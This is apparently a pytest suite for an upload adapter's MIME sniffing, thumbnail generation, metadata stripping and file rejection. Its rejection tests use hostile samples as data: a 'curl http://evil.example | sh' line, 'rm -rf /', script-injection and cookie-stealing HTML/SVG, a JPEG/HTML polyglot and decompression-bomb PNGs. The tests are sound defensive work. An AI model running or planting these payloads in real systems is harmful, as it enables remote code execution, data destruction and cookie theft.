"""Tests for app.adapters.media.images against real files generated on the fly."""

from __future__ import annotations

import io
import os
import shutil
import struct
import time
import warnings
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import av
import pillow_heif
import pytest
from PIL import ExifTags, Image, ImageCms, ImageFile

from app.adapters import media as media_adapter
from app.adapters.media import MediaInfo, MediaLimits, MediaRejected
from app.adapters.media import common as media_common
from app.adapters.media.sniff import mime_matches, sniff_mime
from app.models.media_types import ALLOWED_MIME_TYPES, EXTENSION_FOR_MIME

RED = (220, 20, 20)
BLUE = (20, 20, 220)
GREEN = (20, 200, 20)


# ---------------------------------------------------------------------------------------------
# Sample generation


def process_file(source: Path, declared: str, dest: Path, **limits: int) -> MediaInfo:
    """Only the thumbnail, moved to `dest`: what these tests look at. The other variants are
    tests/test_media_variants.py's."""
    out = dest.parent / f".out-{dest.name}"
    out.mkdir()
    try:
        result = media_adapter.process_file(source, declared, out, MediaLimits(**limits))
        os.replace(out / "thumbnail.jpg", dest)
    finally:
        shutil.rmtree(out)
    return result.info


@pytest.fixture
def src_dir(tmp_path: Path) -> Path:
    path = tmp_path / "src"
    path.mkdir()
    return path


@pytest.fixture
def thumb_dir(tmp_path: Path) -> Path:
    path = tmp_path / "thumbs"
    path.mkdir()
    return path


def left_right(
    size: tuple[int, int], left: tuple[int, int, int], right: tuple[int, int, int]
) -> Image.Image:
    image = Image.new("RGB", size, right)
    image.paste(left, (0, 0, size[0] // 2, size[1]))
    return image


def make_jpeg_with_metadata(path: Path, *, orientation: int = 6, with_icc: bool = True) -> None:
    """600x400 stored sideways (orientation 6) with GPS, ICC, XMP and a comment."""
    image = left_right((600, 400), RED, BLUE)
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "TestPhone"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (52.0, 31.0, 12.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (13.0, 24.0, 36.0),
    }
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes() if with_icc else None
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><secret>home address</secret></x:xmpmeta>'
    image.save(
        path,
        "JPEG",
        quality=90,
        exif=exif.tobytes(),
        icc_profile=icc,
        xmp=xmp,
        comment=b"private comment",
    )


def make_video(
    path: Path,
    container_format: str,
    codec: str,
    *,
    frames: int = 30,
    size: tuple[int, int] = (320, 240),
    gop: int | None = None,
    rotation: float | None = None,
    colour_for: Callable[[int], Image.Image] | None = None,
) -> None:
    with av.open(str(path), mode="w", format=container_format) as container:
        stream = container.add_stream(codec, rate=30)
        assert isinstance(stream, av.VideoStream)
        stream.width, stream.height = size
        stream.pix_fmt = "yuv420p"
        if gop is not None:
            stream.codec_context.gop_size = gop
        if rotation is not None:
            stream.set_display_rotation(rotation)
        for index in range(frames):
            image = colour_for(index) if colour_for else Image.new("RGB", size, RED)
            frame = av.VideoFrame.from_image(image)
            frame.pts = index
            for packet in stream.encode(frame):
                container.mux(packet)
        for packet in stream.encode():
            container.mux(packet)


def png_header_only(path: Path, width: int, height: int) -> None:
    """A PNG whose IHDR claims a huge canvas; the pixel data is a few bytes of zlib."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00" * 4096)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")
    )


def assert_clean_jpeg(thumb: Path) -> Image.Image:
    with Image.open(thumb) as image:
        image.load()
        assert image.format == "JPEG"
        assert image.mode == "RGB"
        assert len(image.getexif()) == 0
        for key in ("exif", "icc_profile", "xmp", "comment"):
            assert key not in image.info, key
        raw = thumb.read_bytes()
        for marker in (b"Exif\x00\x00", b"ICC_PROFILE", b"adobe:ns:meta", b"private comment"):
            assert marker not in raw, marker
        return image.copy()


def assert_rejected(
    source: Path, declared: str, thumb_dir: Path, *, match: str | None = None, **kwargs: int
) -> MediaRejected:
    dest = thumb_dir / "thumb.jpg"
    with pytest.raises(MediaRejected) as excinfo:
        process_file(source, declared, dest, **kwargs)
    assert list(thumb_dir.iterdir()) == []
    reason = str(excinfo.value)
    assert reason == excinfo.value.reason
    assert reason
    assert str(source.parent) not in reason
    assert source.name not in reason
    if match is not None:
        assert match in reason
    return excinfo.value


def near(actual: object, expected: tuple[int, int, int], tolerance: int = 40) -> bool:
    assert isinstance(actual, tuple), actual
    return all(abs(a - e) <= tolerance for a, e in zip(actual[:3], expected, strict=True))


# ---------------------------------------------------------------------------------------------
# Constants


def test_allowed_types_and_extensions() -> None:
    assert {
        "image/jpeg",
        "image/png",
        "image/gif",
        "image/webp",
        "image/heic",
        "image/heif",
        "image/avif",
        "video/mp4",
        "video/webm",
        "video/quicktime",
    } == ALLOWED_MIME_TYPES
    assert dict(EXTENSION_FOR_MIME) == {
        "image/jpeg": "jpg",
        "image/png": "png",
        "image/gif": "gif",
        "image/webp": "webp",
        "image/heic": "heic",
        "image/heif": "heif",
        "image/avif": "avif",
        "video/mp4": "mp4",
        "video/webm": "webm",
        "video/quicktime": "mov",
    }


# ---------------------------------------------------------------------------------------------
# sniff_mime / mime_matches


def ftyp(major: bytes, *compatible: bytes) -> bytes:
    body = b"ftyp" + major + b"\x00\x00\x00\x00" + b"".join(compatible)
    return struct.pack(">I", len(body) + 4) + body + b"\x00\x00\x00\x08free"


def ebml(doctype: bytes) -> bytes:
    elements = b"\x42\x86\x81\x01" + b"\x42\x82" + bytes([0x80 | len(doctype)]) + doctype
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(elements)]) + elements + b"\x18\x53\x80\x67"


@pytest.mark.parametrize(
    ("head", "expected"),
    [
        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", "image/jpeg"),
        (b"\xff\xd8\xff\xe1\x00\x10Exif\x00", "image/jpeg"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "image/png"),
        (b"GIF87a\x01\x00\x01\x00", "image/gif"),
        (b"GIF89a\x01\x00\x01\x00", "image/gif"),
        (b"RIFF\x24\x00\x00\x00WEBPVP8 ", "image/webp"),
        (b"RIFF\x24\x00\x00\x00WEBPVP8L", "image/webp"),
        (b"RIFF\x24\x00\x00\x00WEBPVP8X", "image/webp"),
        (ftyp(b"heic", b"mif1", b"heic"), "image/heic"),
        (ftyp(b"heix", b"mif1"), "image/heic"),
        (ftyp(b"hevc", b"msf1"), "image/heic"),
        (ftyp(b"mif1", b"mif1", b"heic"), "image/heic"),
        (ftyp(b"mif1", b"mif1", b"miaf"), "image/heif"),
        (ftyp(b"msf1", b"msf1"), "image/heif"),
        (ftyp(b"qt  ", b"qt  "), "video/quicktime"),
        (ftyp(b"isom", b"isom", b"iso2", b"avc1", b"mp41"), "video/mp4"),
        (ftyp(b"mp42", b"isom"), "video/mp4"),
        (ftyp(b"mp41"), "video/mp4"),
        (ftyp(b"avc1"), "video/mp4"),
        (ftyp(b"dash", b"iso6"), "video/mp4"),
        (ftyp(b"M4V ", b"M4V ", b"M4A ", b"mp42"), "video/mp4"),
        (ebml(b"webm"), "video/webm"),
        (ftyp(b"avif", b"mif1", b"avif"), "image/avif"),
        (ftyp(b"mif1", b"mif1", b"avif"), "image/avif"),
        (ftyp(b"avis", b"avis", b"msf1"), "image/avif"),
    ],
)
def test_sniff_mime_allowed_types(head: bytes, expected: str) -> None:
    assert sniff_mime(head) == expected


@pytest.mark.parametrize(
    "head",
    [
        b"",
        b"\xff\xd8",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"></svg>',
        b"<svg onload=alert(1)>",
        b"<!DOCTYPE html><html><script>alert(1)</script>",
        b"#!/bin/sh\nrm -rf /\n",
        b"PK\x03\x04\x14\x00\x00\x00",
        b"%PDF-1.7\n",
        b"RIFF\x24\x00\x00\x00WAVEfmt ",
        b"RIFF\x24\x00\x00\x00WEBPJUNK",
        b"BM6\x00\x00\x00\x00\x00",
        b"II*\x00\x08\x00\x00\x00",
        ftyp(b"M4A ", b"M4A ", b"mp42"),
        ftyp(b"crx ", b"isom"),
        ftyp(b"3gp4", b"isom"),
        b"\x00\x00\x00\x08ftyp",
        ebml(b"matroska"),
        b"\x1a\x45\xdf\xa3",
    ],
)
def test_sniff_mime_rejects_everything_else(head: bytes) -> None:
    assert sniff_mime(head) is None


@pytest.mark.parametrize(
    ("declared", "sniffed", "expected"),
    [
        ("image/jpeg", "image/jpeg", True),
        ("IMAGE/JPEG", "image/jpeg", True),
        ("image/heic", "image/heif", True),
        ("image/heif", "image/heic", True),
        ("video/mp4", "video/quicktime", True),
        ("video/quicktime", "video/mp4", True),
        ("video/webm", "video/webm", True),
        ("image/jpeg", "image/png", False),
        ("image/png", "image/jpeg", False),
        ("image/gif", "image/webp", False),
        ("video/webm", "video/mp4", False),
        ("video/mp4", "video/webm", False),
        ("image/heic", "video/mp4", False),
        ("video/mp4", "image/heic", False),
        ("image/png", None, False),
        ("image/jpg", "image/jpeg", False),
    ],
)
def test_mime_matches(declared: str, sniffed: str | None, expected: bool) -> None:
    assert mime_matches(declared, sniffed) is expected


# ---------------------------------------------------------------------------------------------
# Images


def test_jpeg_orientation_applied_and_metadata_stripped(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "photo.jpg"
    make_jpeg_with_metadata(source)
    with Image.open(source) as original:
        # Guards against the fixture silently losing the metadata we claim to strip.
        assert original.getexif()[ExifTags.Base.Orientation] == 6
        assert original.getexif().get_ifd(ExifTags.IFD.GPSInfo)
        assert "icc_profile" in original.info

    dest = thumb_dir / "photo.jpg"
    info = process_file(source, "image/jpeg", dest)

    assert info == MediaInfo("image/jpeg", 400, 600, None, None, 1)
    thumb = assert_clean_jpeg(dest)
    assert thumb.size == (267, 400)
    # Orientation 6 means "rotate 90 degrees clockwise to display": the left half goes on top.
    assert near(thumb.getpixel((133, 50)), RED)
    assert near(thumb.getpixel((133, 350)), BLUE)
    assert sorted(p.name for p in thumb_dir.iterdir()) == ["photo.jpg"]


def test_jpeg_without_icc_keeps_no_metadata(src_dir: Path, thumb_dir: Path) -> None:
    # Without an ICC profile the colour conversion step is skipped, so nothing rebuilds the
    # image from scratch: the JPEG comment and EXIF must still not reach the thumbnail.
    source = src_dir / "upside_down.jpg"
    make_jpeg_with_metadata(source, orientation=3, with_icc=False)

    info = process_file(source, "image/jpeg", thumb_dir / "t.jpg")

    assert (info.width, info.height) == (600, 400)
    thumb = assert_clean_jpeg(thumb_dir / "t.jpg")
    assert thumb.size == (400, 267)
    assert near(thumb.getpixel((50, 133)), BLUE)
    assert near(thumb.getpixel((350, 133)), RED)


def test_png_alpha_is_flattened_onto_white_and_not_upscaled(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "logo.png"
    image = Image.new("RGBA", (200, 100), (0, 0, 0, 0))
    image.paste((*BLUE, 255), (100, 0, 200, 100))
    image.save(source)

    dest = thumb_dir / "logo.jpg"
    info = process_file(source, "image/png", dest)

    assert info == MediaInfo("image/png", 200, 100, None, None, 1)
    thumb = assert_clean_jpeg(dest)
    assert thumb.size == (200, 100)
    assert near(thumb.getpixel((20, 50)), (255, 255, 255), tolerance=8)
    assert near(thumb.getpixel((180, 50)), BLUE)


def test_large_png_is_downscaled_keeping_aspect(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "wide.png"
    Image.new("P", (1600, 200), 3).save(source)

    info = process_file(source, "image/png", thumb_dir / "wide.jpg")

    assert (info.width, info.height) == (1600, 200)
    assert assert_clean_jpeg(thumb_dir / "wide.jpg").size == (400, 50)


def test_sixteen_bit_png_keeps_its_grey_level(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "grey16.png"
    Image.new("I;16", (64, 64), 32768).save(source)

    process_file(source, "image/png", thumb_dir / "grey16.jpg")

    value = assert_clean_jpeg(thumb_dir / "grey16.jpg").getpixel((32, 32))
    assert isinstance(value, tuple)
    assert near(value, (128, 128, 128), tolerance=6)


def test_animated_gif_uses_first_frame_and_counts_frames(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "anim.gif"
    frames = [Image.new("RGB", (120, 80), colour) for colour in (RED, GREEN, BLUE)]
    frames[0].save(source, save_all=True, append_images=frames[1:], duration=100, loop=0)

    info = process_file(source, "image/gif", thumb_dir / "anim.jpg")

    assert info == MediaInfo("image/gif", 120, 80, None, None, 3)
    thumb = assert_clean_jpeg(thumb_dir / "anim.jpg")
    assert thumb.size == (120, 80)
    assert near(thumb.getpixel((60, 40)), RED)


def test_static_webp(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "still.webp"
    left_right((800, 600), RED, BLUE).save(source, "WEBP", quality=80)

    info = process_file(source, "image/webp", thumb_dir / "still.jpg")

    assert info == MediaInfo("image/webp", 800, 600, None, None, 1)
    thumb = assert_clean_jpeg(thumb_dir / "still.jpg")
    assert thumb.size == (400, 300)
    assert near(thumb.getpixel((50, 150)), RED)
    assert near(thumb.getpixel((350, 150)), BLUE)


def test_animated_webp_uses_first_frame(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "anim.webp"
    frames = [Image.new("RGBA", (100, 100), (*colour, 255)) for colour in (GREEN, RED)]
    frames[0].save(source, "WEBP", save_all=True, append_images=frames[1:], duration=100)

    info = process_file(source, "image/webp", thumb_dir / "anim.jpg")

    assert info == MediaInfo("image/webp", 100, 100, None, None, 2)
    assert near(assert_clean_jpeg(thumb_dir / "anim.jpg").getpixel((50, 50)), GREEN)


@pytest.mark.parametrize("declared", ["image/heic", "image/heif"])
def test_heic(src_dir: Path, thumb_dir: Path, declared: str) -> None:
    source = src_dir / "photo.heic"
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "TestPhone"
    left_right((1200, 800), RED, BLUE).save(source, "HEIF", quality=80, exif=exif.tobytes())
    assert source.read_bytes()[8:12] == b"heic"

    info = process_file(source, declared, thumb_dir / "photo.jpg")

    assert info == MediaInfo("image/heic", 1200, 800, None, None, 1)
    thumb = assert_clean_jpeg(thumb_dir / "photo.jpg")
    assert thumb.size == (400, 267)
    assert near(thumb.getpixel((50, 133)), RED)
    assert near(thumb.getpixel((350, 133)), BLUE)


def test_heic_with_orientation_is_upright(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "rotated.heic"
    heif = pillow_heif.from_pillow(left_right((600, 400), RED, BLUE))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    heif.info["exif"] = exif.tobytes()
    heif.save(source, quality=80)

    info = process_file(source, "image/heic", thumb_dir / "rotated.jpg")

    assert (info.width, info.height) == (400, 600)
    thumb = assert_clean_jpeg(thumb_dir / "rotated.jpg")
    assert thumb.size == (267, 400)
    assert near(thumb.getpixel((133, 50)), RED)
    assert near(thumb.getpixel((133, 350)), BLUE)


def test_thumbnail_replaces_existing_file(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "a.png"
    Image.new("RGB", (50, 40), GREEN).save(source)
    dest = thumb_dir / "a.jpg"
    dest.write_bytes(b"stale")

    process_file(source, "image/png", dest)

    assert assert_clean_jpeg(dest).size == (50, 40)
    assert [p.name for p in thumb_dir.iterdir()] == ["a.jpg"]


def test_12_megapixel_jpeg_is_decoded_at_reduced_scale(
    src_dir: Path, thumb_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # libjpeg's DCT scaling (draft) decodes a 12 MP photo at 1/2 scale for the 1600 px preview:
    # a quarter of the pixels and memory (docs/memories.md measures it: SSIM ≥ 0.97).
    source = src_dir / "big.jpg"
    noise = [Image.effect_noise((4000, 3000), 60) for _ in range(3)]
    Image.merge("RGB", noise).save(source, quality=90)
    decoded: list[tuple[int, int]] = []
    load = ImageFile.ImageFile.load

    def recording_load(image: ImageFile.ImageFile) -> object:
        decoded.append(image.size)
        return load(image)

    monkeypatch.setattr(ImageFile.ImageFile, "load", recording_load)
    info = process_file(source, "image/jpeg", thumb_dir / "big.jpg")

    assert (info.width, info.height) == (4000, 3000)
    assert assert_clean_jpeg(thumb_dir / "big.jpg").size == (400, 300)
    assert decoded and max(decoded) == (2000, 1500)


# ---------------------------------------------------------------------------------------------
# Videos


def first_half_black_then(colour: tuple[int, int, int]) -> Callable[[int], Image.Image]:
    def frame(index: int) -> Image.Image:
        return Image.new("RGB", (320, 240), (0, 0, 0) if index < 15 else colour)

    return frame


def test_mp4_h264(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "clip.mp4"
    make_video(source, "mp4", "libx264", gop=10, colour_for=first_half_black_then(GREEN))

    info = process_file(source, "video/mp4", thumb_dir / "clip.jpg")

    assert info.mime_type == "video/mp4"
    assert info.codec == "h264"
    assert (info.width, info.height) == (320, 240)
    assert info.duration == pytest.approx(1.0, abs=0.05)
    assert info.frame_count == 30
    thumb = assert_clean_jpeg(thumb_dir / "clip.jpg")
    assert thumb.size == (320, 240)
    # Frames before 0.5 s are black; a keyframe exists at 0.67 s, so the thumbnail is green.
    assert near(thumb.getpixel((160, 120)), GREEN)


def test_video_without_late_keyframe_uses_first_frame(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "longgop.mp4"
    make_video(source, "mp4", "libx264", colour_for=first_half_black_then(GREEN))

    process_file(source, "video/mp4", thumb_dir / "longgop.jpg")

    assert near(assert_clean_jpeg(thumb_dir / "longgop.jpg").getpixel((160, 120)), (0, 0, 0))


def test_short_video_uses_first_frame(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "short.mp4"
    make_video(source, "mp4", "libx264", frames=6)

    info = process_file(source, "video/mp4", thumb_dir / "short.jpg")

    assert info.duration == pytest.approx(0.2, abs=0.05)
    assert near(assert_clean_jpeg(thumb_dir / "short.jpg").getpixel((160, 120)), RED)


def test_rotated_mp4_reports_upright_size(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "portrait.mp4"
    # -90 (counter-clockwise) is what a phone held upright writes: display rotated clockwise.
    make_video(
        source,
        "mp4",
        "libx264",
        rotation=-90,
        colour_for=lambda _: left_right((320, 240), RED, BLUE),
    )

    info = process_file(source, "video/mp4", thumb_dir / "portrait.jpg")

    assert (info.width, info.height) == (240, 320)
    thumb = assert_clean_jpeg(thumb_dir / "portrait.jpg")
    assert thumb.size == (240, 320)
    assert near(thumb.getpixel((120, 40)), RED)
    assert near(thumb.getpixel((120, 280)), BLUE)


@pytest.mark.parametrize(("encoder", "codec"), [("libvpx-vp9", "vp9"), ("libvpx", "vp8")])
def test_webm(src_dir: Path, thumb_dir: Path, encoder: str, codec: str) -> None:
    source = src_dir / "clip.webm"
    make_video(source, "webm", encoder, colour_for=first_half_black_then(BLUE))

    info = process_file(source, "video/webm", thumb_dir / "clip.jpg")

    assert info.mime_type == "video/webm"
    assert info.codec == codec
    assert (info.width, info.height) == (320, 240)
    assert info.duration == pytest.approx(1.0, abs=0.05)
    assert assert_clean_jpeg(thumb_dir / "clip.jpg").size == (320, 240)


@pytest.mark.parametrize("declared", ["video/quicktime", "video/mp4"])
def test_mov(src_dir: Path, thumb_dir: Path, declared: str) -> None:
    source = src_dir / "clip.mov"
    make_video(source, "mov", "libx264", frames=45, size=(640, 360))
    assert source.read_bytes()[8:12] == b"qt  "

    info = process_file(source, declared, thumb_dir / "clip.jpg")

    assert info.mime_type == "video/quicktime"
    assert info.codec == "h264"
    assert (info.width, info.height) == (640, 360)
    assert info.duration == pytest.approx(1.5, abs=0.05)
    thumb = assert_clean_jpeg(thumb_dir / "clip.jpg")
    assert thumb.size == (400, 225)
    assert near(thumb.getpixel((200, 112)), RED)


def test_audio_only_mp4_is_rejected(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "voice.mp4"
    with av.open(str(source), mode="w", format="mp4") as container:
        stream = container.add_stream("aac", rate=44100)
        for index in range(20):
            frame = av.AudioFrame(format="fltp", layout="mono", samples=1024)
            for plane in frame.planes:
                plane.update(bytes(plane.buffer_size))
            frame.sample_rate = 44100
            frame.pts = index * 1024
            for packet in stream.encode(frame):
                container.mux(packet)
        for packet in stream.encode():
            container.mux(packet)
    assert sniff_mime(source.read_bytes()[:64]) == "video/mp4"

    assert_rejected(source, "video/mp4", thumb_dir, match="no video")


def test_truncated_mp4_is_rejected(src_dir: Path, thumb_dir: Path) -> None:
    full = src_dir / "full.mp4"
    make_video(full, "mp4", "libx264")
    source = src_dir / "cut.mp4"
    source.write_bytes(full.read_bytes()[: full.stat().st_size // 2])

    assert_rejected(source, "video/mp4", thumb_dir, match="corrupt")


def test_garbage_after_ftyp_is_rejected(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "fake.mp4"
    source.write_bytes(ftyp(b"isom", b"isom") + os.urandom(4096))

    assert_rejected(source, "video/mp4", thumb_dir)


def test_oversized_video_is_rejected_before_decoding(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "clip.mp4"
    make_video(source, "mp4", "libx264", frames=3)

    assert_rejected(source, "video/mp4", thumb_dir, match="too large", max_pixels=320 * 240 - 1)


# ---------------------------------------------------------------------------------------------
# Rejections


def test_png_bytes_declared_as_jpeg(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "photo.jpg"
    Image.new("RGB", (10, 10)).save(source, "PNG")

    assert_rejected(source, "image/jpeg", thumb_dir, match="image/png")


def test_mp4_declared_as_webm(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "clip.webm"
    make_video(source, "mp4", "libx264", frames=3)

    assert_rejected(source, "video/webm", thumb_dir)


def test_jpeg_declared_as_something_not_allowed(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "photo.jpg"
    Image.new("RGB", (10, 10)).save(source, "JPEG")

    assert_rejected(source, "image/svg+xml", thumb_dir, match="not supported")
    assert_rejected(source, "application/octet-stream", thumb_dir, match="not supported")


@pytest.mark.parametrize(
    "content",
    [
        b"#!/bin/sh\ncurl http://evil.example | sh\n",
        b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>',
        b"PK\x03\x04" + b"\x00" * 100,
    ],
)
def test_non_media_declared_as_png(src_dir: Path, thumb_dir: Path, content: bytes) -> None:
    source = src_dir / "image.png"
    source.write_bytes(content)

    assert_rejected(source, "image/png", thumb_dir, match="not a supported")


@pytest.mark.parametrize("declared", ["image/jpeg", "video/mp4"])
def test_empty_file(src_dir: Path, thumb_dir: Path, declared: str) -> None:
    source = src_dir / "zero-bytes.bin"
    source.write_bytes(b"")

    assert_rejected(source, declared, thumb_dir, match="empty")


def test_truncated_jpeg(src_dir: Path, thumb_dir: Path) -> None:
    full = io.BytesIO()
    Image.merge("RGB", [Image.effect_noise((640, 480), 50)] * 3).save(full, "JPEG")
    source = src_dir / "cut.jpg"
    source.write_bytes(full.getvalue()[: len(full.getvalue()) // 2])

    assert_rejected(source, "image/jpeg", thumb_dir, match="corrupt")


def test_corrupt_gif(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "broken.gif"
    source.write_bytes(b"GIF89a" + os.urandom(200))

    assert_rejected(source, "image/gif", thumb_dir)


def test_corrupt_heic(src_dir: Path, thumb_dir: Path) -> None:
    full = io.BytesIO()
    Image.new("RGB", (256, 256), RED).save(full, "HEIF")
    source = src_dir / "broken.heic"
    source.write_bytes(full.getvalue()[:200])

    assert_rejected(source, "image/heic", thumb_dir)


def test_decompression_bomb_png_is_rejected_quickly(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "bomb.png"
    png_header_only(source, 50_000, 50_000)
    assert source.stat().st_size < 1_000

    started = time.perf_counter()
    assert_rejected(source, "image/png", thumb_dir, match="too large")
    # 2.5 gigapixels could not even be allocated, let alone decoded, in this time.
    assert time.perf_counter() - started < 1.0


def test_bomb_below_pillow_error_threshold_hits_our_limit(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "bomb.png"
    # 108 MP: Pillow only warns at this size, so rejecting proves our own pre-decode check runs.
    png_header_only(source, 12_000, 9_000)

    started = time.perf_counter()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", Image.DecompressionBombWarning)
        rejection = assert_rejected(source, "image/png", thumb_dir)
    assert "12000x9000" in rejection.reason
    assert time.perf_counter() - started < 1.0


def test_max_pixels_is_respected(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "photo.jpg"
    Image.new("RGB", (600, 400)).save(source)

    assert_rejected(source, "image/jpeg", thumb_dir, match="too large", max_pixels=600 * 400 - 1)
    process_file(source, "image/jpeg", thumb_dir / "ok.jpg", max_pixels=600 * 400)
    assert (thumb_dir / "ok.jpg").exists()


def test_polyglot_jpeg_magic_then_html(src_dir: Path, thumb_dir: Path) -> None:
    source = src_dir / "polyglot.jpg"
    source.write_bytes(b"\xff\xd8\xff\xe0<html><script>alert(1)</script></html>" + b" " * 200)

    assert_rejected(source, "image/jpeg", thumb_dir)


def test_valid_jpeg_with_html_appended_gives_clean_thumbnail(
    src_dir: Path, thumb_dir: Path
) -> None:
    source = src_dir / "appended.jpg"
    body = io.BytesIO()
    Image.new("RGB", (300, 200), GREEN).save(body, "JPEG")
    payload = b"<html><script>alert(document.cookie)</script></html>"
    source.write_bytes(body.getvalue() + payload)

    dest = thumb_dir / "appended.jpg"
    try:
        info = process_file(source, "image/jpeg", dest)
    except MediaRejected:
        assert list(thumb_dir.iterdir()) == []
        return
    assert (info.width, info.height) == (300, 200)
    assert_clean_jpeg(dest)
    assert payload not in dest.read_bytes()


def test_failed_write_leaves_no_temp_file(
    src_dir: Path, thumb_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    source = src_dir / "a.png"
    Image.new("RGB", (20, 20)).save(source)

    def broken_replace(src: str | os.PathLike[str], dst: str | os.PathLike[str]) -> None:
        raise OSError("disk on fire")

    monkeypatch.setattr(media_common.os, "replace", broken_replace)
    # A server-side write failure is not the user's fault, so it is not a MediaRejected.
    with pytest.raises(OSError, match="disk on fire"):
        process_file(source, "image/png", thumb_dir / "a.jpg")
    assert list(thumb_dir.iterdir()) == []


def test_concurrent_calls_from_a_thread_pool(src_dir: Path, thumb_dir: Path) -> None:
    # The API runs process_file in a thread pool; mixed formats at once must not interfere.
    jpeg, heic, video = src_dir / "a.jpg", src_dir / "b.heic", src_dir / "c.mp4"
    make_jpeg_with_metadata(jpeg)
    left_right((600, 400), RED, BLUE).save(heic, "HEIF")
    make_video(video, "mp4", "libx264", gop=10)
    jobs = [(jpeg, "image/jpeg"), (heic, "image/heic"), (video, "video/mp4")] * 4

    with ThreadPoolExecutor(max_workers=6) as pool:
        results = list(
            pool.map(
                lambda job: process_file(job[1][0], job[1][1], thumb_dir / f"{job[0]}.jpg"),
                enumerate(jobs),
            )
        )

    assert [r.mime_type for r in results] == [mime for _, mime in jobs]
    assert [(r.width, r.height) for r in results[:3]] == [(400, 600), (600, 400), (320, 240)]
    assert sorted(p.name for p in thumb_dir.iterdir()) == sorted(f"{i}.jpg" for i in range(12))
